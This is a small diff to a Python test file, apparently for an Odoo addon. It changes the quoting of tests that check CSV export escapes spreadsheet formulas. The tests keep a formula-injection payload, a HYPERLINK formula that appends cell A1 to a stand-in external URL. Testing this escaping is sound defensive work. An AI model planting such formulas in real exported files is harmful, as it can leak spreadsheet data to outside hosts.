@@ -10,7 +10,7 @@ from odoo.tests import BaseCase, HttpCase, TransactionCase, tagged
 
 from ..lib.spreadsheets import as_text
 
-FORMULA = "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")"
+FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'
 
 #: Models whose text is entered by users, or by the addons themselves.
 WITHOUT_TEXT_OF_OCS = {
@@ -119,5 +119,5 @@ class TestExport(HttpCase):
 
     def test_csv(self):
         content = self.export("/web/export/csv").decode()
-        self.assertIn("\"'+1\"", content)
+        self.assertIn('"\'+1"', content)
         self.assertIn("\"'=HYPERLINK", content)
